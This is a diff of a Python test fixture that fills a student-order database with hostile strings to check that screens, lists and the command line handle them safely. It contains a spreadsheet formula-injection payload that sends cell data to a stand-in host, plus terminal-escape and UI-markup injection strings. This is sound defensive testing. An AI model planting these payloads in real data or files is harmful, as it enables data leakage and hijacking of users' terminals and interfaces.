@@ -52,6 +52,11 @@ SPREADSHEET = ['=HYPERLINK("http://example.com/?x="&A1;"klik")', "+1+1", "-2+3",
                "\t=1+1", "\r=1+1"]
 
 NAMES = MARKUP + CONTROL + BIDI + LONG + COMBINING + EMOJI + SPREADSHEET
+# One or a few of each kind, for the slow walks through every screen of a student (the
+# lists, the sweep and the command line take them all).
+SAMPLE = [NAMES.index(n) for n in (*MARKUP[:4], MARKUP[6], CONTROL[0], CONTROL[1], CONTROL[4],
+                                    CONTROL[6], CONTROL[7], BIDI[0], *LONG, COMBINING[0], EMOJI[0],
+                                    SPREADSHEET[0])]
 
 # What a terminal must never receive raw: C0 except LF (the outputs' own line breaks),
 # DEL, C1, and the bidi controls.
@@ -72,6 +77,8 @@ def shown(name: str, width: int | None = None) -> str:
 ALBUM0 = 300000
 STUDENTS = len(NAMES)
 PENDING_ALBUM = str(ALBUM0 + STUDENTS)  # one more: a revocation waiting for MC
+FAILED_ALBUM = str(ALBUM0 + STUDENTS + 1)  # and one whose latest order MC failed
+EVERYTHING = " | ".join(NAMES)
 LOGIN = "\x1b[2J[@click=app.quit]ewa[/]"  # who revoked: a login from the config is data too
 
 
@@ -103,9 +110,9 @@ def build_hostile_store(make_ctx: Any, directory: Path, store: str | Path) -> li
 
     ctx = make_ctx()
     staff = make_ctx(login=LOGIN)
-    rows = [enrolment(f"H{i}", album(i), f"Imię{i}", f"H{i}") for i in range(STUDENTS + 1)]
+    rows = [enrolment(f"H{i}", album(i), f"Imię{i}", f"H{i}") for i in range(STUDENTS + 2)]
     report = import_rows(ctx, directory, *rows)
-    assert report.persons_added == STUDENTS + 1, report.summary()
+    assert report.persons_added == STUDENTS + 2, report.summary()
     out: list[Hostile] = []
     for i, text in enumerate(NAMES):
         a = album(i)
@@ -128,10 +135,15 @@ def build_hostile_store(make_ctx: Any, directory: Path, store: str | Path) -> li
         store_sql(store, "UPDATE orders SET qr_code = ?, activation_code = ? WHERE id = ?",
                   text[:200], text[:64], current)
         out.append(Hostile(i, a, f"{text} {last}", current, failed, revoked))
-    # A revocation waiting for MC, its reason every hostile string at once.
+    # A revocation waiting for MC, its reason every hostile string at once; a failed
+    # order with every one of them in MC's message.
     pending = actions.place_order(ctx, PENDING_ALBUM).order_id
     mc_moves(ctx, pending, S.W_TRAKCIE)
-    actions.revoke_orders(staff, [pending], " | ".join(NAMES))
+    actions.revoke_orders(staff, [pending], EVERYTHING)
+    failed = actions.place_order(ctx, FAILED_ALBUM).order_id
+    mc_moves(ctx, failed, S.W_TRAKCIE, S.BLAD, error_code="E-MC")
+    store_sql(store, "UPDATE orders SET error_code = ?, error_message = ? WHERE id = ?",
+              CONTROL[0][:64], EVERYTHING, failed)
     for c in (ctx, staff):
         c.engine.dispose()
     return out
